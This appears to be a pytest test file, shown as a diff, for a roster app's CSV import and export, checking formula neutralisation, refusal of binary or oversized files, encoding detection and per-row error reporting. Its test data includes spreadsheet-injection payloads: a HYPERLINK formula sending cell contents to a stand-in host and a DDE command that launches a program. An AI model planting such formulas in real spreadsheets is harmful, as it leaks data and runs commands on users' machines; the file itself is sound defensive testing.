@@ -1,0 +1,163 @@
+"""Spreadsheet files as hostile input, with real files: formula cells neutralised on the way out
+(read back from the exported file), binary files, NUL, oversized and overlong files refused,
+UTF-16 and UTF-8 read right, and every skipped row named with its reason."""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from app.csv_file import (
+    FORMULA_START,
+    MAX_BYTES,
+    MAX_ROWS,
+    Cancelled,
+    CsvRefused,
+    Refusal,
+    read_table,
+)
+from app.model import Member
+from app.roster_csv import RowProblem
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Zoé")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3",
+    "\tTab",
+    "\rReturn",
+]
+
+
+def test_exported_formula_cells_read_back_as_text(fresh_group, tmp_path: Path) -> None:
+    roster = fresh_group.roster
+    for number, formula in enumerate(FORMULAS):
+        roster.add_member(
+            Member(f"Membre {number}", full_name=formula, phone=formula, private_note=formula)
+        )
+    roster.add_member(Member("=1+1", phone="+33 6 12 34 56 78"))
+    path = tmp_path / "roster.csv"
+    roster.export_csv(path)
+    text = path.read_bytes().decode("utf-8-sig")
+    cells = [
+        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
+    ]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
+    assert "'+cmd|' /C calc'!A0" in cells and "'+33 6 12 34 56 78" in cells and "'=1+1" in cells
+    # Imported again, the cells are what the host typed (the apostrophe is Cercle's own).
+    preview = roster.preview_csv(path.read_bytes(), None)
+    back = {m.pseudonym: m for m in preview.members(include_duplicates=True)}
+    assert back["=1+1"].phone == "+33 6 12 34 56 78"
+    assert back["Membre 1"].full_name == "+cmd|' /C calc'!A0"
+    assert back["Membre 0"].private_note == FORMULAS[0]
+
+
+def _refusal(data: bytes) -> Refusal:
+    with pytest.raises(CsvRefused) as caught:
+        read_table(data)
+    return caught.value.reason
+
+
+def _png() -> bytes:
+    return bytes.fromhex("89504e470d0a1a0a0000000d49484452") + bytes(range(256)) * 4
+
+
+def _xlsx(tmp_path: Path) -> bytes:
+    path = tmp_path / "roster.xlsx"
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr("xl/workbook.xml", "<workbook/>")
+    return path.read_bytes()
+
+
+def test_binary_files_and_nul_are_refused(tmp_path: Path) -> None:
+    assert _refusal(_png()) is Refusal.BINARY
+    assert _refusal(_xlsx(tmp_path)) is Refusal.BINARY
+    assert _refusal(bytes(range(1, 32)) * 200) is Refusal.BINARY
+    assert _refusal(b"Pseudo;Nom\r\nZo\x00e;Martin\r\n") is Refusal.NUL
+    utf16_with_nul = "Pseudo;Nom\r\nZo\x00é;Martin\r\n".encode("utf-16")
+    assert _refusal(utf16_with_nul) is Refusal.NUL
+    assert _refusal(b"") is Refusal.EMPTY
+    assert _refusal(b"x" * (MAX_BYTES + 1)) is Refusal.TOO_LARGE
+
+
+def test_a_million_rows_are_refused_after_reading_only_the_cap(tmp_path: Path) -> None:
+    path = tmp_path / "million.csv"
+    path.write_bytes(b"Pseudo\n" + b"a\n" * 1_000_000)
+    seen: list[int] = []
+    with pytest.raises(CsvRefused) as caught:
+        read_table(path.read_bytes(), seen.append)
+    assert caught.value.reason is Refusal.TOO_MANY_ROWS
+    assert seen and max(seen) < 5  # stopped in the first few percent of the file
+
+
+def test_reading_stops_when_cancelled() -> None:
+    data = ("Pseudo\n" + "Zoé\n" * MAX_ROWS).encode()
+    with pytest.raises(Cancelled):
+        read_table(data, stop=lambda: True)
+
+
+@pytest.mark.parametrize(
+    ("encoding", "name"),
+    [
+        ("utf-16", "utf-16"),  # Excel's "Unicode text": little-endian with its BOM
+        ("utf-16-be-bom", "utf-16"),
+        ("utf-8-sig", "utf-8"),
+        ("utf-8", "utf-8"),
+        ("cp1252", "cp1252"),
+    ],
+)
+def test_accents_read_right_in_every_encoding_a_spreadsheet_writes(
+    encoding: str, name: str, tmp_path: Path
+) -> None:
+    text = "Pseudo\tNom\r\nHélène\tÉlodie Noël\r\nGaëlle\tÇa va\r\n"
+    data = (
+        codecs.BOM_UTF16_BE + text.encode("utf-16-be")
+        if encoding == "utf-16-be-bom"
+        else text.encode(encoding)
+    )
+    path = tmp_path / "roster.csv"
+    path.write_bytes(data)
+    table = read_table(path.read_bytes())
+    assert table.encoding == name and table.delimiter == "\t"
+    assert table.header == ["Pseudo", "Nom"]
+    assert table.rows == [["Hélène", "Élodie Noël"], ["Gaëlle", "Ça va"]]
+
+
+def test_every_skipped_row_says_which_field_and_why(fresh_group, tmp_path: Path) -> None:
+    path = tmp_path / "roster.csv"
+    rows = [
+        "Pseudo;Courriel;Note",
+        "Zoé;zoe@example.org;",
+        ";nobody@example.org;",
+        "Marc;pas-un-courriel;",
+        "Ali\x07ce;;",
+        f"Inès;;{'x' * 20_001}",
+        f"{'N' * 101};;",
+    ]
+    path.write_bytes("\r\n".join(rows).encode("utf-8"))
+    preview = fresh_group.roster.preview_csv(path.read_bytes())
+    found = [(r.line, r.problem, r.field, r.reason) for r in preview.rows]
+    assert found == [
+        (2, None, "", ""),
+        (3, RowProblem.EMPTY_PSEUDONYM, "", ""),
+        (4, RowProblem.BAD_EMAIL, "", ""),
+        (5, RowProblem.FIELD, "pseudonym", "control"),
+        (6, RowProblem.FIELD, "private_note", "too_long"),
+        (7, RowProblem.FIELD, "pseudonym", "too_long"),
+    ]
+    assert [m.pseudonym for m in preview.members()] == ["Zoé"]
+    assert MAX_ROWS >= 1_000  # a large group's roster still fits
+
+
+def test_a_join_date_far_in_the_future_is_skipped(fresh_group) -> None:
+    data = "Pseudo;Date d'arrivée\r\nPaul;01/01/9999\r\nLéa;03/02/2025\r\n".encode()
+    preview = fresh_group.roster.preview_csv(data)
+    assert [(r.problem, r.field, r.reason) for r in preview.rows] == [
+        (RowProblem.FIELD, "joined_on", "future"),
+        (None, "", ""),
+    ]
